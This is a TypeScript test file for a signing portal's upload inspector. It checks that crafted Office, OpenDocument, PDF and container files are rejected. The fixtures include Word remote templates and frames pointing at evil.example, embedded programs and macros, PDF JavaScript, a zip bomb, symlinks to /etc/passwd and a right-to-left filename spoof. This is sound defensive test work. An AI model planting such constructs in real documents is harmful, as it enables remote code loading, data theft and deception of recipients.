import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { deflateRawSync } from 'node:zlib'
import { createContainer } from '@portal/signatures'
import { encryptPdf } from '@portal/signatures/other-tools'
import { appendObjects, createTestPdf } from '@portal/signatures/test-pki/write-test-pdf'
import { writeZip } from '@portal/signatures/zip/write-zip'
import pino from 'pino'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { diskObjectStore } from '../../../parties/object-store/disk.ts'
import { inspectFile } from '../inspect-file.ts'
import { recogniseType } from '../recognise-type.ts'

type Part = readonly [name: string, content: string | Uint8Array]
const zip = (...parts: Part[]) =>
  Buffer.from(writeZip(parts.map(([name, content]) => ({ name, bytes: Buffer.from(content) }))))

const officeOpenXml = 'application/vnd.openxmlformats-officedocument'
const types = (main: string) =>
  `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${officeOpenXml}.${main}.main+xml"/></Types>`
const docx = (...parts: Part[]) =>
  zip(['[Content_Types].xml', types('wordprocessingml.document')], ['word/document.xml', '<w/>'], ...parts)
const xlsx = (...parts: Part[]) =>
  zip(['[Content_Types].xml', types('spreadsheetml.sheet')], ['xl/workbook.xml', '<w/>'], ...parts)
const relation = (type: string, target: string, mode = 'External') =>
  `<?xml version="1.0"?><r:Relationships xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships"><r:Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode='${mode}'/></r:Relationships>`

const ns = (name: string) => `urn:oasis:names:tc:opendocument:xmlns:${name}:1.0`
const content = (inside: string) =>
  `<o:document-content xmlns:o="${ns('office')}" xmlns:s="${ns('script')}" xmlns:d="${ns('drawing')}" xmlns:t="${ns('text')}" xmlns:x="http://www.w3.org/1999/xlink"><o:scripts/><o:body>${inside}</o:body></o:document-content>`
const odt = (...parts: Part[]) => zip(['mimetype', 'application/vnd.oasis.opendocument.text'], ...parts)
const odtWith = (inside: string) => odt(['content.xml', content(inside)])

const program = Buffer.from('MZ\u0090\0\u0003\0', 'latin1')
const compound = Buffer.from('d0cf11e0a1b11ae10000', 'hex')
const script = appendObjects(createTestPdf('Statuti'), [[8, '<< /S /JavaScript /JS (app.alert\\(1\\)) >>']])
/** The catalogue refers to the script, so that a program that rewrites the file keeps it. */
const linkedScript = appendObjects(script, [[1, '<< /Type /Catalog /Pages 2 0 R /OpenAction 8 0 R >>']])

/** Appends a deflated entry whose headers claim a smaller size than it has. */
function lying(): Buffer {
  const packed = deflateRawSync(Buffer.alloc(60_000_000, 'a'))
  const bytes = docx(['word/media/a.txt', packed])
  const local = bytes.indexOf('word/media/a.txt') - 30
  const central = bytes.lastIndexOf('word/media/a.txt') - 46
  for (const [at, method, size] of [
    [local, 8, 22],
    [central, 10, 24],
  ] as const) {
    bytes.writeUInt16LE(8, at + method)
    bytes.writeUInt32LE(1000, at + size)
  }
  return bytes
}

/** Turns the last entry into a symbolic link, as `zip --symlinks` writes it. */
function linking(bytes: Buffer, name: string): Buffer {
  bytes.writeUInt16LE(0x0314, bytes.lastIndexOf(name) - 46 + 4)
  bytes.writeUInt32LE(0xa1ff0000, bytes.lastIndexOf(name) - 46 + 38)
  return bytes
}

describe('a rejection names the file inside', () => {
  const cases: [what: string, found: string, name: string, bytes: Buffer, path: string][] = [
    [
      'a Word document with a remote template',
      'template',
      'a.docx',
      docx(['word/_rels/settings.xml.rels', relation('attachedTemplate', 'https://evil.example/a.dotm')]),
      'a.docx › word/_rels/settings.xml.rels',
    ],
    [
      'a Word document with a template in another computer’s folder',
      'template',
      'a.docx',
      docx(['word/_rels/settings.xml.rels', relation('attachedTemplate', '\\\\evil\\a.dotm', '&#69;xternal')]),
      'a.docx › word/_rels/settings.xml.rels',
    ],
    [
      'a Word document with a remote frame',
      'remote',
      'a.docx',
      docx(['word/_rels/webSettings.xml.rels', relation('frame', 'https://evil.example/')]),
      'a.docx › word/_rels/webSettings.xml.rels',
    ],
    [
      'a Word document with a remote object',
      'remote',
      'a.docx',
      docx(['word/_rels/document.xml.rels', relation('oleObject', 'file://evil/a')]),
      'a.docx › word/_rels/document.xml.rels',
    ],
    [
      'a Word document with a remote part',
      'remote',
      'a.docx',
      docx(['word/_rels/document.xml.rels', relation('subDocument', 'https://evil.example/a.docx')]),
      'a.docx › word/_rels/document.xml.rels',
    ],
    [
      'a Word document with a page of another format',
      'object',
      'a.docx',
      docx(['word/_rels/document.xml.rels', relation('aFChunk', 'a.mht', 'Internal')]),
      'a.docx › word/_rels/document.xml.rels',
    ],
    [
      'a Word document with a program',
      'program',
      'a.docx',
      docx(['word/embeddings/a.bin', program]),
      'a.docx › word/embeddings/a.bin',
    ],
    [
      'a Word document with a program by its name',
      'program',
      'a.docx',
      docx(['word/media/a.vbs', 'x = 1']),
      'a.docx › word/media/a.vbs',
    ],
    [
      'a Word document with an object of another program',
      'object',
      'a.docx',
      docx(['word/embeddings/oleObject1.bin', compound]),
      'a.docx › word/embeddings/oleObject1.bin',
    ],
    [
      'a Word document with a spreadsheet with a program',
      'program',
      'a.docx',
      docx(['word/embeddings/a.xlsx', xlsx(['xl/embeddings/b.bin', program])]),
      'a.docx › word/embeddings/a.xlsx › xl/embeddings/b.bin',
    ],
    [
      'a Word document with an archive',
      'kind',
      'a.docx',
      docx(['word/embeddings/a.zip', zip(['a.txt', 'x'])]),
      'a.docx › word/embeddings/a.zip',
    ],
    [
      'a Word document with macros',
      'macro',
      'a.docx',
      docx(['word/vbaProject.bin', 'x']),
      'a.docx › word/vbaProject.bin',
    ],
    [
      'a Word document with macros by another name',
      'macro',
      'a.docx',
      docx(['word/_rels/document.xml.rels', relation('vbaProject', 'a.bin', 'Internal')]),
      'a.docx › word/_rels/document.xml.rels',
    ],
    [
      'a Word document with 60 MB that are declared as 1000 bytes',
      'unreadable',
      'a.docx',
      lying(),
      'a.docx › word/media/a.txt',
    ],
    [
      'a Word document with a link',
      'link',
      'a.docx',
      linking(docx(['word/media/a.png', '/etc/passwd']), 'word/media/a.png'),
      'a.docx › word/media/a.png',
    ],
    [
      'a text with a script',
      'macro',
      'a.odt',
      odtWith('<s:event-listener s:event-name="dom:load" x:href="vnd.sun.star.script:a"/>'),
      'a.odt › content.xml',
    ],
    [
      'a text with a script under another prefix',
      'macro',
      'a.odt',
      odtWith(`<q:event-listener xmlns:q="${ns('script')}"/>`),
      'a.odt › content.xml',
    ],
    [
      'a text with a program’s command behind a link',
      'macro',
      'a.odt',
      odtWith('<t:a x:href=" macro:///Standard.Module1.Run">x</t:a>'),
      'a.odt › content.xml',
    ],
    [
      'a text with a remote picture',
      'remote',
      'a.odt',
      odtWith('<d:image x:href="https://evil.example/a.png"/>'),
      'a.odt › content.xml',
    ],
    [
      'a text with a remote section',
      'remote',
      'a.odt',
      odtWith('<t:section-source x:href="\\\\evil\\a.odt"/>'),
      'a.odt › content.xml',
    ],
    ['a text with a frame', 'remote', 'a.odt', odtWith('<d:floating-frame x:href="a.html"/>'), 'a.odt › content.xml'],
    [
      'a text with an object of another program',
      'object',
      'a.odt',
      odt(['content.xml', content('')], ['Object 1', compound]),
      'a.odt › Object 1',
    ],
    [
      'a text whose inner document has a script',
      'macro',
      'a.odt',
      odt(['content.xml', content('')], ['Object 1/content.xml', content('<s:event-listener/>')]),
      'a.odt › Object 1/content.xml',
    ],
    [
      'a text with macros',
      'macro',
      'a.odt',
      odt(['content.xml', content('')], ['Basic/Standard/Module1.xml', '<x/>']),
      'a.odt › Basic/Standard/Module1.xml',
    ],
    [
      'an unreadable text',
      'unreadable',
      'a.odt',
      odt(['content.xml', '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>']),
      'a.odt › content.xml',
    ],
    ['a PDF with a script', 'script', 'a.pdf', script, 'a.pdf'],
  ]
  test.each(cases)('%s', async (_, found, name, bytes, file) => {
    expect(await recogniseType(bytes, name)).toEqual({
      refused: { code: 'file-content-refused', params: { file, found } },
    })
  })

  test('an encrypted text', async () => {
    const manifest = `<m:manifest xmlns:m="${ns('manifest')}"><m:file-entry><m:encryption-data/></m:file-entry></m:manifest>`
    expect(
      await recogniseType(odt(['content.xml', program.subarray(2)], ['META-INF/manifest.xml', manifest]), 'a.odt'),
    ).toEqual({
      refused: { code: 'file-encrypted', params: { file: 'a.odt › META-INF/manifest.xml' } },
    })
  })
})

describe('is accepted', () => {
  const cases: [what: string, name: string, bytes: Buffer][] = [
    [
      'a Word document with links to follow',
      'a.docx',
      docx(['word/_rels/document.xml.rels', relation('hyperlink', 'https://www.ur.gov.lv/')]),
    ],
    [
      'a Word document with a picture',
      'a.docx',
      docx(['word/_rels/document.xml.rels', relation('image', 'media/a.png', 'Internal')], ['word/media/a.png', 'x']),
    ],
    ['a Word document with a table', 'a.docx', docx(['word/embeddings/a.xlsx', xlsx()])],
    [
      'a spreadsheet with printer settings',
      'a.xlsx',
      xlsx(['xl/printerSettings/printerSettings1.bin', Buffer.alloc(500, 1)]),
    ],
    [
      'a text with links, pictures, formulas and an earlier template',
      'a.odt',
      odtWith(
        `<t:a x:href="https://www.ur.gov.lv/">x</t:a><d:image x:href="Pictures/a.png"/><d:object x:href="./Object 1"/><m:template xmlns:m="${ns('meta')}" x:href="/usr/a.ott"/>`,
      ),
    ],
    [
      'a text with its own toolbars',
      'a.odt',
      odt(
        ['content.xml', content('')],
        ['Configurations2/accelerator/current.xml', ''],
        ['Configurations2/toolbar/a.xml', '<t xmlns:x="http://www.w3.org/1999/xlink" x:href=".uno:Save"/>'],
      ),
    ],
  ]
  test.each(cases)('%s', async (_, name, bytes) => {
    expect(await recogniseType(bytes, name)).toMatchObject({ mediaType: expect.any(String) })
  })
})

describe('a container', () => {
  const never = () => Promise.reject(new Error('not asked for'))
  const trust = {
    mayAsk: () => false,
    timestamp: never,
    ocsp: never,
    store: async () => ({ takenAt: new Date(0), lists: [], anchors: [] }),
  }
  let folder: string
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'objects-'))
  })
  afterAll(() => rm(folder, { recursive: true }))
  async function inspect(bytes: Uint8Array) {
    const objectStore = diskObjectStore(folder)
    const object = await objectStore.put(bytes)
    const log = pino({ level: 'silent' })
    return inspectFile({ trust, now: () => new Date(), objectStore, log }, { name: 'a.edoc', object, sender: 'anna' })
  }
  const holding = (name: string, bytes: Uint8Array) =>
    createContainer([
      { name: 'b.txt', mediaType: 'text/plain', bytes: Buffer.from('x') },
      { name, mediaType: 'application/octet-stream', bytes },
    ])
  const inContainers = (depth: number): Uint8Array =>
    depth === 0 ? Buffer.from('x') : holding(depth === 1 ? 'a.txt' : 'a.edoc', inContainers(depth - 1))

  const refused: [string, string, Uint8Array, string][] = [
    ['a program', 'kind', holding('a.exe', program), 'a.edoc › a.exe'],
    ['a PDF with a script', 'script', holding('līgums.pdf', script), 'a.edoc › līgums.pdf'],
    [
      'a Word document with a remote template',
      'template',
      holding('c.docx', docx(['word/_rels/settings.xml.rels', relation('attachedTemplate', 'https://evil.example')])),
      'a.edoc › c.docx › word/_rels/settings.xml.rels',
    ],
    ['an empty file', 'empty', holding('c.txt', Buffer.alloc(0)), 'a.edoc › c.txt'],
    [
      'a name with a mark that reverses the text',
      'name',
      holding('txt.\u202efdp.txt', Buffer.from('x')),
      'a.edoc › txt.\ufffdfdp.txt',
    ],
    ['containers in containers in containers', 'nested', inContainers(3), 'a.edoc › a.edoc › a.edoc'],
  ]
  test.each(refused)('with %s is rejected, and the file is named', async (_, found, bytes, file) => {
    await expect(inspect(bytes)).rejects.toMatchObject({ code: 'file-content-refused', params: { file, found } })
  })

  test('with a PDF that needs a password is rejected', async () => {
    const pdf = encryptPdf(createTestPdf('Izraksts'), '256', [], 'parole')
    await expect(inspect(holding('izraksts.pdf', pdf))).rejects.toMatchObject({
      code: 'file-encrypted',
      params: { file: 'a.edoc › izraksts.pdf' },
    })
  })

  // An owner password also encrypts the file (ISO 32000-2 §7.6.4).
  test.each(['40', '128', '256'])('with a PDF that only forbids changes is inspected (%s bits)', async (bits) => {
    const encrypted = (pdf: Buffer) => holding('izraksts.pdf', encryptPdf(pdf, bits, ['--object-streams=generate']))
    await expect(inspect(encrypted(createTestPdf('Izraksts')))).resolves.toBeDefined()
    await expect(inspect(encrypted(linkedScript))).rejects.toMatchObject({
      code: 'file-content-refused',
      params: { file: 'a.edoc › izraksts.pdf', found: 'script' },
    })
  })

  test('with a link is rejected', async () => {
    await expect(
      inspect(linking(Buffer.from(holding('c.txt', Buffer.from('/etc/passwd'))), 'c.txt')),
    ).rejects.toMatchObject({
      code: 'file-content-refused',
      params: { file: 'a.edoc › c.txt', found: 'link' },
    })
  })

  test('with a compressed type is rejected', async () => {
    const type = 'application/vnd.etsi.asic-e+zip'
    const packed = deflateRawSync(type)
    const bytes = zip(['mimetype', packed], ['a.txt', 'x'])
    const crc = Buffer.from(writeZip([{ name: 'mimetype', bytes: Buffer.from(type) }])).readUInt32LE(14)
    for (const [at, method] of [
      [0, 8],
      [bytes.lastIndexOf('mimetype') - 46, 10],
    ] as const) {
      bytes.writeUInt16LE(8, at + method)
      bytes.writeUInt32LE(crc, at + method + 6)
      bytes.writeUInt32LE(type.length, at + method + 14)
    }
    await expect(inspect(bytes)).rejects.toMatchObject({ code: 'signature-format-refused' })
  })

  test('in another container is accepted', async () => {
    expect(await inspect(inContainers(2))).toMatchObject({ contents: [{ name: 'b.txt' }, { name: 'a.edoc' }] })
  })
})
